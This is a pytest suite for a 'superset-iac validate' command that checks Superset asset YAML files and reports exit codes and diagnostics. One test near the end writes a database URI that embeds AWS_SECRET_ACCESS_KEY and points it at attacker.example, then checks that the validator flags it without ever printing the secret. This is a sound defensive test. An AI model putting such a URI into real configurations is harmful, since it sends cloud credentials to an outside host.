"""``superset-iac validate`` through click's runner: exit codes and output."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from superset_iac.cli import main

ROOT = Path(__file__).resolve().parents[2]
BASE = ROOT / "tests" / "fixtures" / "validate" / "base"
LINE = re.compile(r"^(?P<file>[^:\s]+):(?P<line>\d+):(?P<col>\d+): (?P<code>[A-Z]\d{3}) ")


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the valid fixture tree as ./assets in a fresh working directory."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(BASE, tmp_path / "assets")
    return tmp_path / "assets"


def _run(*args: str):
    return CliRunner().invoke(main, ["validate", *args])


def test_the_team_assets_are_valid(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    result = _run("--assets", "assets")
    assert result.exit_code == 0, result.output
    # Not even G006: every role the dashboard lists holds the datasets it shows.
    assert result.stdout.splitlines() == ["30 objects, 0 error(s), 0 warning(s): valid."], \
        result.output


def test_valid_tree_exits_0_with_a_summary(tree: Path) -> None:
    result = _run()
    assert result.exit_code == 0
    assert result.stdout.strip() == "11 objects, 0 error(s), 0 warning(s): valid."


def test_problems_exit_1_one_line_each_relative_paths(tree: Path) -> None:
    (tree / "charts" / "price.yaml").write_text(
        "name: Price\ndataset: trades\nviz_type: line\nparams:\n  metrics: [avg_price]\n"
        "  groupby: [sym]\n")
    (tree / "rls" / "symbols.yaml").write_text(
        "name: r\ndatasets: [trades]\nroles: [Analyst]\nclause: |\n  symbol IN ('A'\n")
    result = _run()
    assert result.exit_code == 1
    lines = [LINE.match(line) for line in result.stdout.splitlines()]
    assert all(lines), result.stdout
    assert [(m["file"], m["line"], m["code"]) for m in lines] == [
        ("assets/charts/price.yaml", "3", "S017"),
        ("assets/charts/price.yaml", "6", "C001"),
        ("assets/rls/symbols.yaml", "5", "Q001"),
    ]
    assert "did you mean 'symbol'?" in result.stdout
    assert "3 error(s), 0 warning(s): invalid." in result.stderr


def test_warnings_alone_exit_0(tree: Path) -> None:
    (tree / "charts" / "daily_table.yaml").write_text(
        "name: Daily table\ndataset: daily\nviz_type: tabel\n")
    result = _run()
    assert result.exit_code == 0
    assert "S016 warning: chart/Daily table" in result.stdout
    assert "1 warning(s): valid." in result.stdout


def test_json_output_parses_and_carries_positions(tree: Path) -> None:
    (tree / "roles" / "analyst.yaml").write_text(
        "name: Analyst\ndata_access:\n  datasets: [trade]\n")
    result = _run("--format", "json")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert data["valid"] is False and data["errors"] == 1 and data["objects"] == 11
    # (and G006 warnings: the dashboard Sales still opens its datasets to Analyst)
    [diag] = [d for d in data["diagnostics"] if d["severity"] == "error"]
    assert diag == {"pos": {"file": "assets/roles/analyst.yaml", "line": 3, "col": 14},
                    "code": "R001", "severity": "error",
                    "message": "role/Analyst: dataset 'trade' is not defined; "
                               "did you mean 'trades'?"}


def test_json_output_of_a_valid_tree(tree: Path) -> None:
    result = _run("--format", "json")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["valid"] is True


def test_bad_format_is_a_usage_error(tree: Path) -> None:
    result = _run("--format", "xml")
    assert result.exit_code == 2
    assert "Invalid value for '--format'" in result.output


def test_missing_asset_directory_is_a_usage_error(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = _run("--assets", "nowhere")
    assert result.exit_code == 2
    assert result.stderr.strip() == "error: asset directory 'nowhere' not found (pass --assets DIR)"


def test_malformed_and_binary_files_never_give_a_traceback(tree: Path) -> None:
    (tree / "charts" / "png.yaml").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe")
    (tree / "charts" / "broken.yaml").write_text("name: [unclosed\n")
    (tree / "charts" / "tabs.yaml").write_text("name: x\n\tdataset: y\n")
    (tree / "dashboards" / "null.yaml").write_bytes(b"title: a\x00b\n")
    result = _run()
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    codes = {m["code"] for m in map(LINE.match, result.stdout.splitlines()) if m}
    assert codes == {"L003", "Y001"}


def test_unknown_environment_is_reported(tree: Path) -> None:
    result = _run("--env", "staging")
    assert result.exit_code == 1
    assert "E002 unknown environment 'staging' (known: dev)" in result.stdout


def test_missing_connection_variable_is_only_a_warning(tree: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """validate never connects: a missing connection variable is a warning. The
    variables the desired state needs (URIs, passwords) stay errors."""
    monkeypatch.delenv("SUPERSET_PASSWORD", raising=False)
    monkeypatch.setenv("LAKE_PATH", "/tmp/lake.duckdb")
    monkeypatch.setenv("CI_BOT_PASSWORD", "s3cret-value")
    result = _run("--env", "dev")
    assert result.exit_code == 0, result.output
    assert "E001 warning: environment 'dev': variable SUPERSET_PASSWORD is not set" \
        in result.stdout
    assert "s3cret-value" not in result.output and "lake.duckdb" not in result.output
    monkeypatch.delenv("LAKE_PATH")
    result = _run("--env", "dev")
    assert result.exit_code == 1
    assert "E001 database/warehouse: environment variable LAKE_PATH is not set" in result.stdout


def test_a_uri_sending_a_secret_out_exits_1_naming_it_and_never_showing_it(
        tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-value-0123456789")
    (tree / "databases" / "warehouse.yaml").write_text(
        "name: warehouse\nuri: trino://${AWS_SECRET_ACCESS_KEY}@attacker.example:443/x\n")
    for fmt in ("text", "json"):
        result = CliRunner().invoke(main, ["validate", "--env", "dev", "--format", fmt])
        assert result.exit_code == 1, result.output
        assert "S030" in result.output and "aws-secret-value" not in result.output
    text = CliRunner().invoke(main, ["validate", "--env", "dev"]).output
    assert any(m and m["code"] == "S030" and m["line"] == "2" and m["col"] == "14"
               for m in map(LINE.match, text.splitlines()))


def test_a_null_mask_fails_validation_at_its_column(tree: Path) -> None:
    view = tree / "views" / "trades_masked.yaml"
    view.write_text(view.read_text().replace("mask: hash", "mask: null"))
    result = _run()
    assert result.exit_code == 1
    assert re.search(r"trades_masked\.yaml:\d+:\d+: S010 .*YAML null", result.output)
